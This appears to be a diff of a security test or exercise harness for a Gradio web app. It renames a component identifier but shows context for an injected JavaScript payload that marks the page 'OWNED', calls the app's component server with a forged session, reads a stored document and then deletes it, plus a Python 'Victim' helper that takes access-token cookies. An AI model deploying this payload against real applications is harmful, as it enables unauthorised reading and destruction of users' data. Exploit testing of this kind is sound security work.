@@ -26,10 +26,10 @@ document.title = "OWNED";
 (async () => {
   const page = await (await fetch("/")).text();
   const config = JSON.parse(/window.gradio_config = (.*?);<.script>/.exec(page)[1]);
-  const desk = config.components.find((one) => one.props.elem_id === "desk").id;
+  const api = config.components.find((one) => one.props.elem_id === "api").id;
   const ask = async (data) => (await fetch("/gradio_api/component_server", {
     method: "POST", headers: { "content-type": "application/json" },
-    body: JSON.stringify({ data, component_id: desk, session_hash: "x", fn_name: "ask" }),
+    body: JSON.stringify({ data, component_id: api, session_hash: "x", fn_name: "ask" }),
   })).json();
   const read = await ask({ name: "read", document: "kyoto.txt", key: "", start: 0 });
   await ask({ name: "remove", id: "kyoto.txt", sure: true });
@@ -191,9 +191,9 @@ class Victim:
             c["name"]: c["value"] for c in context.cookies() if c["name"].startswith("access-token")
         }
         owner = Visitor(self.address, cookies=cookies)
-        shelf = owner.desk("library")["slots"]["library"]
+        listed = owner.api("library")["slots"]["library"]
         owner.close()
-        return {name for name in ARTICLES if name not in shelf}
+        return {name for name in ARTICLES if name not in listed}
 
 
 def log_in(page: Page, password: str) -> None:
